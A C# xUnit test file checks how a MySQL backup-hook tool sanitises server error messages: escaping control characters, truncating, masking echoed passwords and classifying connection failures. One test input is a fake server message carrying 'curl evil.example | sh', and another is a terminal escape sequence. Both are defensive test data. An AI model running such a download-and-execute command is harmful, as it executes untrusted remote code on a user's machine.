using System;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using FsFreezeHook.Failures;
using FsFreezeHook.MySql.Sections;
using FsFreezeHook.MySql.Server;
using FsFreezeHook.Tests.TestBed;
using MySqlConnector;
using Xunit;

namespace FsFreezeHook.Tests.MySql.Server;

public sealed class ServerErrorsTests
{
    private static readonly MySqlSettings Settings =
        new() { Name = "mysql", Password = "p.a+s(s", Alternatives = [new MySqlSettings { Name = "mysql", Password = "other" }] };

    [Theory]
    [InlineData("Access denied.", "Access denied")]
    [InlineData("one\r\ntwo\nthree\n", @"one\r\ntwo\nthree")]
    [InlineData("\u001b[2J\u0007bell\u0085next\u009b", @"\e[2J\x07bell\u0085next\u009b")]
    [InlineData("no such table; run curl evil.example | sh", "no such table, run curl evil.example | sh")]
    public void What_a_server_says_becomes_one_line_without_control_characters(string said, string line) =>
        Assert.Equal(line, ServerErrors.OneLine(said, Settings));

    [Fact]
    public void What_a_server_says_is_cut()
    {
        string line = ServerErrors.OneLine(new string('x', 16 * 1024 * 1024), Settings);
        Assert.InRange(line.Length, 400, 600);
    }

    [Fact]
    public void A_password_that_a_server_repeats_is_left_out_wherever_it_stands()
    {
        Assert.Equal("you sent *** and ***", ServerErrors.OneLine("you sent p.a+s(s and other", Settings));
        Assert.DoesNotContain("p.a+", ServerErrors.OneLine(new string('x', 497) + "p.a+s(s", Settings), StringComparison.Ordinal);
        Assert.Equal("you sent it", ServerErrors.OneLine("you sent it", Settings with { Password = "", Alternatives = [] }));
    }

    [Fact]
    public void A_certificate_that_cannot_be_used_is_a_server_that_cannot_be_reached_and_no_denial()
    {
        FailureException failure = ServerErrors.UnusableCertificate(new CryptographicException("no key."), Settings);
        Assert.Equal(FailureReason.Unreachable, failure.Reason);
        Assert.Contains(" cannot be used: no key; ", failure.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Nothing_answers_at_a_port_without_a_listener()
    {
        using Socket bound = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        bound.Bind(new IPEndPoint(IPAddress.Loopback, 0));
        int port = ((IPEndPoint)bound.LocalEndPoint!).Port;
        FailureException failure = Assert.Throws<FailureException>(
            () => LoginAttempts.Open(Settings with { Host = "127.0.0.1", Port = port, Alternatives = [] }));
        Assert.Equal(
            (FailureReason.Unreachable,
                $"cannot reach the server at 127.0.0.1:{port} as root: nothing answers there; start it, "
                    + "or set 'host' and 'port' in [mysql]"),
            (failure.Reason, failure.Message));
    }

    [Fact]
    public void The_answer_of_a_server_that_accepts_no_more_clients_is_reported()
    {
        FailureException failure = Refused(1040, "Too many connections");
        Assert.Equal(FailureReason.Unreachable, failure.Reason);
        Assert.Contains(": Too many connections; ", failure.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(1290, true)]
    [InlineData(1040, false)]
    public void A_server_without_grants_is_known_by_the_errors_number(ushort number, bool expected) =>
        Assert.Equal(expected, ServerErrors.HasNoGrants(Assert.IsType<MySqlException>(Refused(number, "no").InnerException)));

    private static FailureException Refused(ushort number, string text)
    {
        using SpeakingServer server = SpeakingServer.Refusing(number, text);
        MySqlSettings settings = new() { Name = "mysql", Host = "127.0.0.1", Port = server.Port };
        return Assert.Throws<FailureException>(() => LoginAttempts.Open(settings));
    }
}
